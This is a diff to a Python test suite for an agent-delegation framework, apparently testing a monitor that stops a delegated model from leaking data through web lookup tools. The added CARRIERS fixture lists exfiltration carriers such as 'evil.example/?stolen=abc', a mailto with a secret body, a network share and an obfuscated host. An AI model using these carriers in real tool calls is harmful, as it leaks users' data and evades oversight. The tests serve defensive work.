@@ -10,6 +10,7 @@ from typing import Any
 import pytest
 
 from delegate import Delegator, Task, Tool, Verdict
+from delegate.hosts.declarations import declared
 from delegate.models.providers.scripted import Scripted
 from delegate.ports import ChatReply
 from tests.support.looking import LookingJudge, look, met, record_of
@@ -211,13 +212,15 @@ class Web:
 
     def __init__(self) -> None:
         self.sent: list[Any] = []
+        self.page = "The price is 30 EUR."
 
     def tools(self) -> list[Tool]:
         async def call(args: Mapping[str, Any]) -> str:
             self.sent.append(dict(args))
-            return json.dumps({"page": "The price is 30 EUR."})
+            return json.dumps({"page": self.page})
 
-        text = {"type": "object", "properties": {"url": {"type": "string"}, "query": {"type": "string"}}}
+        one, many = {"type": "string"}, {"type": "array", "items": {"type": "string"}}
+        text = {"type": "object", "properties": {"url": one, "query": one, "ids": many}}
         return [
             Tool("fetch", "Fetch a page", text, call, read_only=True, effects=frozenset({"network"})),
             Tool("lookup", "Look something up", text, call, read_only=True),
@@ -253,6 +256,72 @@ async def test_data_is_sent_nowhere() -> None:
     made = len(child[0].tool_calls) if isinstance(child[0], ChatReply) else 0
     assert web.sent[made:] == [{"url": GOOD}, {"query": "other price"}]
     assert judge.errors == [True] * 6 + [False] * 2
+
+
+CARRIERS: dict[str, dict[str, Any]] = {
+    "pieces": {"ids": [f"secret {n:03} {'x' * 180}" for n in range(100)]},
+    "many short pieces": {"ids": [f"s{n:03}" for n in range(60)]},
+    "known words as signs": {"ids": ["price", "ana"] * 60},
+    "a host": {"query": "secret.evil.example"},
+    "a host with a path": {"url": "evil.example/?stolen=abc"},
+    "one slash": {"url": "http:/evil.example/?x=1"},
+    "backslashes": {"url": "http:\\\\evil.example"},
+    "a share": {"query": "\\\\evil\\secret"},
+    "a mail address": {"query": "mailto:eve@evil.example?body=secret"},
+    "a number": {"url": "192.0.2.7/secret"},
+    "a known host with more": {"url": "https://example.org/prices?x=secret"},
+    "below a known host": {"query": "secret.example.org"},
+    "another stop": {"query": "secret.evil\u3002example"},
+    "a long key": {"query": "price", "k" * 150: "b" * 150},
+    "a long text": {"query": "The plan is secret. " * 12},
+}
+
+
+@pytest.mark.parametrize("args", CARRIERS.values(), ids=CARRIERS.keys())
+async def test_no_look_up_carries_data_away(args: dict[str, Any]) -> None:
+    web = Web()
+    child: list[ChatReply | str] = [Scripted.calls(("fetch", {"url": GOOD}), ("lookup", {"query": "price"})), "Done."]
+    judge, _ = await looked(web, ("lookup", args), child=child)
+    assert (judge.errors, len(web.sent)) == ([True], 2)
+    assert "not called" in judge.shown[0]
+
+
+async def test_what_is_known_can_be_looked_up() -> None:
+    web, id = Web(), "7b1d2c0e-5c1e-4f5e-9a57-3f2b8c1d4e5f"
+    web.page = f"Order {id} of ana@example.org, see notes/7.md and https://example.org/o/7, due 2026-05-03."
+    child: list[ChatReply | str] = [Scripted.call("lookup", query="price"), "Done."]
+    looks = [
+        look("lookup", query="price", url=None), look("lookup", query=id), look("lookup", query="from:ana@example.org"),
+        look("lookup", url="https://example.org/o/7"), look("lookup", query="notes/7.md"),
+        look("lookup", query="is:open order by due date, 2026-05-03"), look("lookup", ids=[id, "ana@example.org"]),
+    ]  # fmt: skip
+    judge, _ = await looked(web, *looks, child=child)
+    assert judge.errors == [False] * 7, judge.shown
+    assert web.sent[1] == {"query": "price"}
+
+
+async def test_what_an_earlier_look_up_showed_is_known() -> None:
+    web, id = Web(), "c-" + "0123456789" * 9
+    child: list[ChatReply | str] = ["Done."]
+    ids = [f"{id}{n}" for n in range(4)]
+    judge, _ = await looked(web, look("lookup", ids=ids), child=child)
+    assert judge.errors == [True]
+    web.page = ", ".join(ids)
+    judge, _ = await looked(web, look("lookup", query="all"), look("lookup", ids=ids), child=child)
+    assert judge.errors == [False, False]
+
+
+@pytest.mark.parametrize("hints", [{"openWorldHint": True}, {}], ids=["says so", "says nothing"])
+async def test_a_search_of_the_web_gets_only_what_the_child_sent(hints: dict[str, bool], tmp_path: Path) -> None:
+    web, annotations = Web(), {"readOnlyHint": True, **hints}
+    lookup = declared(web.tools()[1], annotations)
+    child: list[ChatReply | str] = [Scripted.call("lookup", query="price"), "Done."]
+    judge = LookingJudge([look("lookup", query="the plan"), look("lookup", query="price")],
+                         answer=met(by="The price is 30 EUR."), child=child)  # fmt: skip
+    async with Delegator(client=judge.client(**DEED), tools=[lookup]) as delegator:
+        await delegator.run(Task(goal="x", acceptance_criteria=["the price was looked up"]))
+    assert judge.errors == [True, False]
+    assert web.sent == [{"query": "price"}, {"query": "price"}]
 
 
 async def test_tools_that_may_change_or_cost_something_are_not_offered() -> None:
